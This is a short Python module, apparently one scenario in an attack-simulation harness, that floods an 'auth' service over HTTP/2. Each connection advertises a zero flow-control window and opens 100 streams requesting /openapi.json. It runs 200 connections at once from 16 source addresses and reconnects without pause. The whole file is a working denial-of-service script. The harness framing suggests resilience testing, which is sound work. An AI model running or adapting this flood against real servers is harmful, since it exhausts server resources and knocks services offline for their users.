"""100 streams of HTTP/2 a connection that ask for /openapi.json and open no window, 200 connections at a time."""

import asyncio

from .. import http2

SERVICE = "auth"
CONNECTIONS = 200
STREAMS = 100
# Then the connection is left, and another one made.
HOLD_SECONDS = 0.5


async def attack(scene):
    content = http2.settings((http2.INITIAL_WINDOW_SIZE, 0)) + b"".join(
        http2.request(2 * number + 1, http2.METHOD_GET, "/openapi.json")
        for number in range(STREAMS))
    addresses = scene.sources(16)

    async def one(number):
        loop = asyncio.get_running_loop()
        while not scene.is_over:
            connection = await scene.connect(addresses[number % 16])
            if connection is None:
                continue
            try:
                await loop.sock_sendall(connection, content)
                scene.count("requests", STREAMS)
                await scene.pause(HOLD_SECONDS)
            except OSError:
                scene.count("connections lost")
            finally:
                connection.close()

    await scene.together(one(number) for number in range(CONNECTIONS))
